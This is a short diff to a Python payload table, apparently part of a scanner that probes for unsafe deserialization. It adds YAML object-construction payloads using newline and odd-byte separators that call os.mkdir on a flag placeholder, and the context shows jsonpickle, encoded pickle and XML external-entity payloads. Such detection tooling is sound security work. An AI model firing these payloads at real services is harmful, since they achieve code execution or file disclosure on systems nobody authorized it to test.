@@ -34,6 +34,7 @@ PAYLOADS = {
         '!!python/object/apply:os.mkdir ["@@FLAG@@"]', 'a: !!python/object/apply:os.mkdir ["@@FLAG@@"]', '{"py/reduce": [{"py/function": "posix.mkdir"}, {"py/tuple": ["@@FLAG@@"]}]}',
         "!!python/object/new:os.mkdir [\"@@FLAG@@\"]", "@@AS:b64@@!!python/object/apply:os.mkdir [\"@@FLAG@@\"]", '@@AS:b64@@{"py/reduce": [{"py/function": "posix.mkdir"}, {"py/tuple": ["@@FLAG@@"]}]}',
         "- !!python/object/apply:os.mkdir [\"@@FLAG@@\"]", '{"py/object": "os.mkdir", "py/newargs": {"py/tuple": ["@@FLAG@@"]}}', '{"py/object/apply": "os.mkdir"}', "@@AS:b32@@" + PICKLE,
+        '!!python/object/apply:os.mkdir\n["@@FLAG@@"]', '!!python/object/apply:os.mkdir\udc85["@@FLAG@@"]', "@@AS:folded@@@@FLAG@@",
     ],
     "xml": [
         '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://@@CANARY@@">]><r>&x;</r>',
